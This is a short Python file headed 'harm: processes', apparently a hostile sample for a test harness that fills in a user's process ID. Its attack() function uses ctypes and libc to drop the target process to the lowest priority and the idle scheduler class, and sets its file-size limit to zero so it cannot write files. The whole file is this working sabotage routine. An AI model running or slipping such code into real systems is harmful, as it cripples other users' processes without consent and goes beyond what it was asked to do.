# harm: processes
import ctypes

VICTIM = 0  # the net puts a process of the user here

libc = ctypes.CDLL(None)


def attack() -> int:
    libc.setpriority(0, VICTIM, 19)
    libc.sched_setscheduler(VICTIM, 5, ctypes.byref(ctypes.c_int(0)))
    return libc.prlimit(VICTIM, 1, (ctypes.c_uint64 * 2)(0, 0), None)
